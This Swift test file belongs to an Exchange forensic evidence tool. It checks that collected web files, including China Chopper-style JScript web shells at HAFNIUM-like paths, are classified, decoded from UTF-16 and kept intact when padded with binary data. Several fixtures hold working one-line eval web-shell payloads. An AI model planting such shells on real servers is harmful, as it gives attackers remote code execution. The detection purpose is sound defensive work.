import ExchangeEvidence
import Foundation
import Testing

@Suite struct CollectedWebFileReaderTests {
    /// An OAB virtual-directory export carrying the China Chopper one-liner, collected from aspnet_client.
    @Test func collectedWebShellIsOneEventWithItsContent() throws {
        let (s, _) = try Fixtures.load(Fixtures.path("webfiles"))
        let file = s.files[0]
        let content = String(decoding: try Data(contentsOf: URL(fileURLWithPath:
            Fixtures.path("webfiles/EX01/C/inetpub/wwwroot/aspnet_client/supp0rt.aspx"))), as: UTF8.self)
        #expect(file.kind == .webFile)
        #expect(file.server == "EX01")
        #expect(s.count == 1)
        #expect(s.time[0] == Timestamp.unknown)
        #expect(s.field("Path", of: 0) == "EX01/C/inetpub/wwwroot/aspnet_client/supp0rt.aspx")
        #expect(s.field("WebPath", of: 0) == "/aspnet_client/supp0rt.aspx")
        #expect(s.value(.urlStem, 0) == "/aspnet_client/supp0rt.aspx")
        #expect(s.field("Name", of: 0) == "supp0rt.aspx")
        #expect(s.field("Size", of: 0) == String(file.size))
        #expect(s.field("Content", of: 0) == content)
        #expect(s.field("Content", of: 0)?.contains(#"eval(Request["unsafe"],"unsafe")"#) == true)
    }

    /// Pages score in any folder; `.js`/`.config` only in the watched folders, compiled pages only in
    /// `Temporary ASP.NET Files`; logs and other extensions do not.
    @Test(arguments: [
        ("EX01/C/Program Files/Microsoft/Exchange Server/V15/FrontEnd/HttpProxy/owa/auth/Current/one1.aspx", 60),
        ("EX01/C/Program Files/Microsoft/Exchange Server/V15/FrontEnd/HttpProxy/OAB/log.aspx", 60),
        ("EX01/C/Program Files/Microsoft/Exchange Server/V15/Logging/HttpProxy/Ecp/x.ASHX", 60),
        ("EX01/C/Program Files/Microsoft/Exchange Server/V15/FrontEnd/HttpProxy/OAB/web.config", 0),
        ("EX01/C/Program Files/Microsoft/Exchange Server/V15/Logging/HttpProxy/OAB/HttpProxy_2021030306-1.LOG", 0),
        (#"EX01\C\Program Files\Microsoft\Exchange Server\V15\FrontEnd\HttpProxy\ecp\auth\TimeoutLogoff.aspx"#, 60),
        ("EX01/C/inetpub/wwwroot/aspnet_client/system_web/web.config", 60),
        ("EX01/C/Windows/Microsoft.NET/Framework64/v4.0.30319/Temporary ASP.NET Files/owa/9c5e1f7a/App_Web_x3bxt2rb.dll", 60),
        ("EX01/C/inetpub/logs/LogFiles/W3SVC1/u_ex210303.log", 0),
        ("EX01/C/Program Files/Microsoft/Exchange Server/V15/Logging/HttpProxy/Owa/HttpProxy_2021030306-1.LOG", 0),
        ("EX01/C/Program Files/Microsoft/Exchange Server/V15/FrontEnd/HttpProxy/owa/web.aspx", 60),
        ("EX01/C/inetpub/wwwroot/aspnet_client/google.log", 0),
        ("EX01/C/Windows/Temp/App_Web_x.dll", 0),
    ])
    func pathsDecide(_ path: String, _ score: Int) {
        #expect(Array("x".utf8).withUnsafeBytes { CollectedWebFileReader().score(path: path, head: $0) } == score)
    }

    /// A page in a folder named like a log folder (HAFNIUM's `FrontEnd/HttpProxy/OAB/log.aspx`) is a web file with
    /// its content, not an HttpProxy log with a header problem; HttpProxy logs in `OAB` folders, with or without
    /// their header, still load as HttpProxy.
    @Test func pageInAnHttpProxyFolderIsAWebFileNotALog() throws {
        let dir = Fixtures.tempDir()
        let shell = #"<%@ Page Language="Jscript"%><%eval(Request.Item["z"],"unsafe");%>"#
        let v15 = "EX01/C/Program Files/Microsoft/Exchange Server/V15"
        Fixtures.write(shell, "\(v15)/FrontEnd/HttpProxy/OAB/log.aspx", in: dir)
        Fixtures.write(shell, "\(v15)/FrontEnd/HttpProxy/ecp/x.aspx", in: dir)
        let log = try [UInt8](Data(contentsOf: URL(fileURLWithPath: Fixtures.path("httpproxy/HttpProxy_2023010919-1.LOG"))))
        Fixtures.write(log, "\(v15)/Logging/HttpProxy/OAB/HttpProxy_2023010919-1.LOG", in: dir)
        Fixtures.write("2021-03-03T06:49:42.123Z,abc,15,1,2176,2,,Oab,ex01,/OAB/,,,false,,,,ExchangeServicesClient,1.2.3.4\r\n",
                       "\(v15)/FrontEnd/HttpProxy/OAB/HttpProxy_2021030306-1.LOG", in: dir)
        let (s, _) = try Fixtures.load(dir.path)
        let byName = Dictionary(uniqueKeysWithValues: s.files.map { ($0.path.split(separator: "/").last.map(String.init) ?? "", $0) })
        #expect(byName["log.aspx"]?.kind == .webFile)
        #expect(byName["x.aspx"]?.kind == .webFile)
        #expect(byName["log.aspx"]?.messages == [])
        #expect(byName["HttpProxy_2023010919-1.LOG"]?.kind == .httpProxy)
        #expect(byName["HttpProxy_2021030306-1.LOG"]?.kind == .httpProxy)
        let page = try #require(s.ids(where: "Name", is: "log.aspx").first)
        #expect(s.field("WebPath", of: page) == "/OAB/log.aspx")
        #expect(s.field("Content", of: page) == shell)
    }

    /// A compiled page is one event without content; a UTF-16 page under owa/auth is decoded.
    @Test func compiledPageAndUTF16Page() throws {
        let dir = Fixtures.tempDir()
        let dll = "EX01/C/Windows/Microsoft.NET/Framework64/v4.0.30319/Temporary ASP.NET Files/root/1a2b/3c4d/App_Web_ab12cd34.dll"
        Fixtures.write([0x4D, 0x5A, 0x90, 0, 3, 0, 0, 0, 4, 0, 0, 0, 0xFF, 0xFF, 0, 0], dll, in: dir)
        var utf16: [UInt8] = [0xFF, 0xFE]
        for u in "<%@ Page Language=\"Jscript\"%>\r\n<%eval(Request.Item[\"x\"],\"unsafe\");%>".utf16 {
            utf16 += [UInt8(u & 0xFF), UInt8(u >> 8)]
        }
        Fixtures.write(utf16, "EX01/C/Program Files/Microsoft/Exchange Server/V15/FrontEnd/HttpProxy/owa/auth/x.aspx", in: dir)
        let (s, _) = try Fixtures.load(dir.path)
        #expect(s.files.map(\.kind) == [.webFile, .webFile])
        let compiled = try #require(s.ids(where: "Compiled", is: "true").first)
        #expect(s.field("Content", of: compiled) == nil)
        #expect(s.value(.urlStem, compiled) == dll)
        let page = try #require(s.ids(where: "Compiled", is: "false").first)
        #expect(s.field("WebPath", of: page) == "/owa/auth/x.aspx")
        #expect(s.field("Content", of: page)?.contains("eval(Request.Item[\"x\"],\"unsafe\")") == true)
        #expect(s.file(of: page).messages == ["decoded from UTF-16LE"])
    }

    /// A page padded with binary data keeps its content: the script inside is still there for the rules.
    @Test func binaryPaddedPageKeepsItsContent() throws {
        let dir = Fixtures.tempDir()
        let page: [UInt8] = [0x89, 0x50, 0x4E, 0x47, 0, 0, 0, 0x0D, 0xFF, 0] + Array("<%eval(Request[\"k\"],\"unsafe\");%>".utf8)
        Fixtures.write(page, "EX01/C/inetpub/wwwroot/aspnet_client/logo.aspx", in: dir)
        let (s, _) = try Fixtures.load(dir.path)
        #expect(s.files[0].kind == .webFile)
        #expect(s.field("Content", of: 0)?.contains("eval(Request[\"k\"],\"unsafe\")") == true)
        #expect(s.files[0].messages.first?.hasPrefix("binary data in a web page") == true)
    }
}
